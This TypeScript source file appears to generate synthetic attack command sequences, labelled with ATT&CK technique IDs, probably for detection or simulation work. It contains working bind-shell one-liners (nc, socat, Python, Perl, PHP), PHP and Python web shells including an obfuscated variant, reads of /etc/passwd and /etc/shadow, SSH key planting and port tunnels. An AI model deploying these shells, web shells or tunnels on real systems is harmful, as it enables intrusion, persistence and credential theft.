import { Buffer } from 'node:buffer';
import type { Draw } from '../draw.ts';
import type { Attack } from '../scenario.ts';
import { behind, look, maybe, quote, root, workFile, workFolder, write } from '../ways.ts';

const ASKED = [
  'id',
  'uname -a',
  'whoami',
  'cat /etc/passwd',
  'ls -la',
  'ls -la /home',
  'pwd',
  'ps aux',
  'hostname',
  'ip a',
  'env',
  'cat /etc/hosts',
  'df -h',
  'ss -tln',
] as const;

function door(draw: Draw, port: number): string {
  const pipe = `/tmp/${draw.word()}`;
  return draw.pick([
    `rm -f ${pipe}; mkfifo ${pipe}; cat ${pipe} | /bin/sh 2>&1 | nc -l ${draw.chance(0.5) ? '-p ' : ''}${port} > ${pipe} &`,
    `socat TCP-LISTEN:${port},reuseaddr${draw.chance(0.5) ? ',fork' : ''} EXEC:/bin/sh,stderr 2> /dev/null &`,
    `python3 -c ${quote(`import socket,os,subprocess\ns=socket.socket(); s.setsockopt(1,2,1); s.bind(("0.0.0.0",${port})); s.listen(1)\nc,_=s.accept()\nfor f in (0,1,2): os.dup2(c.fileno(),f)\nsubprocess.call(["/bin/${draw.pick(['sh', 'bash'])}"])`)} 2> /dev/null &`,
    `perl -MIO::Socket::INET -e ${quote(`$l=IO::Socket::INET->new(LocalPort=>${port},Listen=>1,ReuseAddr=>1) or die; $c=$l->accept; open(STDIN,"<&",$c); open(STDOUT,">&",$c); open(STDERR,">&",$c); exec "/bin/sh"`)} 2> /dev/null &`,
    `php -r ${quote(`$l=stream_socket_server("tcp://0.0.0.0:${port}"); $c=stream_socket_accept($l); while(($x=fgets($c))!==false){ fwrite($c, shell_exec($x)); }`)} 2> /dev/null &`,
  ]);
}

/** A shell waits behind a port until someone connects. */
const waiting: Attack = {
  name: 'shell-behind-port',
  family: 'shell-behind-port',
  techniques: ['T1059.004', 'T1571', 'T1205'],
  as: 'either',
  needs: ['nc', 'socat', 'python3', 'perl', 'php', 'sudo'],
  lines: (draw, place) => {
    const port = draw.pick(place.ports);
    const host = draw.pick(['127.0.0.1', place.address]);
    const typed = draw.some(ASKED, draw.int(3, 8));
    const script = workFile(draw, place, '.sh');
    const says = `(sleep ${draw.int(1, 3)}; ${typed.map((line) => `echo ${quote(line)}; sleep ${draw.int(1, 3)}`).join('; ')}; echo exit)`;
    return [
      ...look(draw, draw.int(1, 3)),
      draw.chance(0.75)
        ? door(draw, port)
        : `${write(draw, script, `#!/bin/bash\n${door(draw, port)}\nwait`)}\nsetsid bash ${script} > /dev/null 2>&1 &`,
      ...maybe(draw, 0.5, draw.pick([`ss -tln | grep ${port}`, 'ss -tlnp', 'jobs'])),
      draw.pick([
        `${says} | timeout 60 nc -q 2 ${host} ${port}`,
        `${says} | timeout 60 socat -t 3 - TCP:${host}:${port}`,
        `(${says} | timeout 60 nc -q 2 ${host} ${port} > /dev/null 2>&1 &); sleep ${typed.length * 2 + 4}`,
      ]),
      ...maybe(draw, 0.4, root(place, `ss -tnp | tail -3`)),
      ...maybe(draw, 0.4, 'kill %1 2>/dev/null', `rm -f ${script}`),
    ];
  },
};

interface Site {
  readonly file: string;
  readonly body: string;
  readonly serve: string;
  readonly ask: (command: string) => string;
}

function site(draw: Draw, folder: string, address: string): Site {
  const argument = draw.pick(['q', 'c', 'x', 'id', 'page', 'cmd', 'f']);
  const encode = (command: string): string => encodeURIComponent(command).replaceAll("'", '%27');
  const file = `${draw.word()}.php`;
  const php = draw.pick([
    `<?php system($_GET["${argument}"]); ?>`,
    `<?php echo shell_exec($_REQUEST["${argument}"]); ?>`,
    `<?php if (isset($_POST["${argument}"])) { passthru($_POST["${argument}"]); } else { echo "ok"; } ?>`,
    `<?php $f = "sys"."tem"; @$f(base64_decode($_REQUEST["${argument}"])); ?>`,
  ]);
  const sent = php.includes('base64')
    ? (command: string) => Buffer.from(command).toString('base64')
    : (command: string) => command;
  const byPost = php.includes('POST') || (php.includes('REQUEST') && draw.chance(0.5));
  if (draw.chance(0.65)) {
    return {
      file,
      body: php,
      serve: `php -S ${address} -t ${folder}`,
      ask: (command) =>
        byPost
          ? `curl -s http://${address}/${file} --data-urlencode ${quote(`${argument}=${sent(command)}`)}`
          : `curl -s "http://${address}/${file}?${argument}=${encode(sent(command))}"`,
    };
  }
  const [host, port] = address.split(':');
  return {
    file: `${draw.word()}.py`,
    body: `import http.server, subprocess, urllib.parse\nclass Page(http.server.BaseHTTPRequestHandler):\n  def do_GET(self):\n    q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)\n    out = subprocess.run(q["${argument}"][0], shell=True, capture_output=True).stdout if "${argument}" in q else b"ok"\n    self.send_response(200); self.end_headers(); self.wfile.write(out)\n  def log_message(self, *a): pass\nhttp.server.HTTPServer(("${host}", ${port}), Page).serve_forever()`,
    serve: 'python3',
    ask: (command) => `curl -s "http://${address}/?${argument}=${encode(command)}"`,
  };
}

/** A page of a web server runs what a request asks for. */
const page: Attack = {
  name: 'page-that-runs-commands',
  family: 'page-that-runs-commands',
  techniques: ['T1505.003', 'T1190', 'T1059.004', 'T1082'],
  as: 'either',
  needs: ['php', 'python3', 'curl', 'setpriv'],
  lines: (draw, place) => {
    const folder =
      place.user === 'root'
        ? draw.pick(['/var/www/html', `/var/www/${draw.word()}`, '/srv/www'])
        : workFolder(draw, place);
    const { file, body, serve, ask } = site(
      draw,
      folder,
      `${draw.pick(['127.0.0.1', '0.0.0.0'])}:${draw.pick(place.ports)}`,
    );
    const run = serve === 'python3' ? `python3 ${folder}/${file}` : serve;
    const asked = draw.some(
      [
        ...ASKED,
        'find / -maxdepth 2 -perm -4000 2>/dev/null',
        'cat config* ../config* 2>/dev/null',
        'cat /etc/shadow',
        `echo ${draw.word()} > /tmp/${draw.word()}`,
      ],
      draw.int(3, 9),
    );
    const script = workFile(draw, place, '.sh');
    const loop = asked.map((command) => `${ask(command)} > /dev/null; sleep ${draw.int(1, 5)}`).join('\n');
    const stop = maybe(draw, 0.5, 'kill %1');
    return [
      `mkdir -p ${folder}`,
      ...maybe(draw, 0.4, `echo "<h1>${draw.word()}</h1>" > ${folder}/index.html`),
      write(draw, `${folder}/${file}`, body),
      place.user === 'root' && draw.chance(0.6)
        ? `setpriv --reuid www-data --regid www-data --clear-groups ${run} > /dev/null 2>&1 &`
        : `${run} > /dev/null 2>&1 &`,
      'sleep 1',
      ...(draw.chance(0.5)
        ? asked.slice(0, 7).map(ask)
        : [
            write(draw, script, loop),
            draw.chance(0.5)
              ? `bash ${script}`
              : `(bash ${script} > /dev/null 2>&1 &); sleep ${asked.length * 4}`,
          ]),
      ...stop,
      ...maybe(draw, 0.4, `rm -f ${folder}/${file} ${script}`),
    ];
  },
};

/** A way through this machine: bytes of a port go elsewhere. */
const tunnel: Attack = {
  name: 'port-led-elsewhere',
  family: 'port-led-elsewhere',
  techniques: ['T1572', 'T1090.001', 'T1090', 'T1021.004'],
  as: 'either',
  needs: ['socat', 'ssh', 'sshd', 'ssh-keygen', 'python3', 'curl', 'nc', 'sudo'],
  lines: (draw, place) => {
    const [port = 0, inner = 0] = draw.some(place.ports, 2);
    const host = draw.pick(place.peers);
    const far = draw.pick(place.peerPorts);
    const script = workFile(draw, place, '.py');
    const key = `/tmp/${draw.word()}`;
    const pump = `import socket, threading\ndef pump(a, b):\n  try:\n    while d := a.recv(4096): b.sendall(d)\n  except OSError: pass\n  b.close()\ns = socket.create_server(("${draw.pick(['0.0.0.0', '127.0.0.1'])}", ${port}))\nwhile True:\n  c, _ = s.accept(); r = socket.create_connection(("${host}", ${far}))\n  for x, y in ((c, r), (r, c)): threading.Thread(target=pump, args=(x, y), daemon=True).start()`;
    const ssh = `ssh -i ${key} -p ${inner} -N -f -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes`;
    const whom = place.user;
    const keys = [
      `ssh-keygen -q -t ed25519 -N '' -f ${key}; mkdir -p ~/.ssh; cat ${key}.pub >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys`,
      root(place, `bash -c "mkdir -p /run/sshd; ssh-keygen -A > /dev/null; /usr/sbin/sshd -p ${inner}"`),
    ];
    const ways = [
      [behind(draw, `socat TCP-LISTEN:${port},fork,reuseaddr TCP:${host}:${far}`)],
      [write(draw, script, pump), behind(draw, `python3 ${script}`)],
      [
        `mkfifo ${key}.p; (nc -l 127.0.0.1 ${port} < ${key}.p | nc ${host} ${far} > ${key}.p) > /dev/null 2>&1 &`,
      ],
      [...keys, `timeout 20 ${ssh} -R ${port}:${host}:${far} ${whom}@127.0.0.1 2>/dev/null`],
      [...keys, `timeout 20 ${ssh} -L ${port}:${host}:${far} ${whom}@127.0.0.1 2>/dev/null`],
    ];
    const dynamic = [
      ...keys,
      `timeout 20 ${ssh} -D ${port} ${whom}@127.0.0.1 2>/dev/null`,
      `curl -s -m 8 --socks5 127.0.0.1:${port} http://${host}:${far}/${draw.word()}.txt | head -3`,
    ];
    const asked = [
      `curl -s -m 5 http://127.0.0.1:${port}/${draw.file('.html')} | head -3`,
      ...maybe(
        draw,
        0.4,
        `sleep ${draw.int(2, 10)}`,
        `curl -s -m 5 -d @/etc/hostname http://127.0.0.1:${port}/ > /dev/null`,
      ),
    ];
    return [
      ...look(draw, draw.int(0, 3)),
      ...(draw.chance(0.2) ? dynamic : [...draw.pick(ways), 'sleep 1', ...asked]),
      ...maybe(draw, 0.5, 'ss -tlnp | tail -4'),
      ...maybe(draw, 0.4, `rm -f ${script} ${key} ${key}.pub ${key}.p`),
    ];
  },
};

export const DOORS: readonly Attack[] = [waiting, page, tunnel];
